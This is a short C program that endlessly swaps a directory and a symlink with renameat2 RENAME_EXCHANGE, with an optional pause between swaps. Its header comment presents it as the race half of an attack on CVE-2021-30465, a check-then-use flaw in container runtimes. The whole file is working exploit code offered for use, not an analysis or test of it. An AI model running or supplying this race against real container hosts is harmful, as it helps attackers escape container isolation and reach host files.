/*
 * Exchanges two names without end: what is a directory at one moment is a
 * link at the next (CVE-2021-30465).  A runtime that checks a path first and
 * uses it afterwards checks the one and uses the other.  A third word is how
 * many microseconds each of the two lasts: it is the attack's pace, and waits
 * for nobody.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	useconds_t pause = argc == 4 ? (useconds_t)atoi(argv[3]) : 0;

	while (argc >= 3) {
		if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2],
			      RENAME_EXCHANGE) < 0)
			break;
		if (pause)
			usleep(pause);
	}
	perror("swap");
	return 1;
}
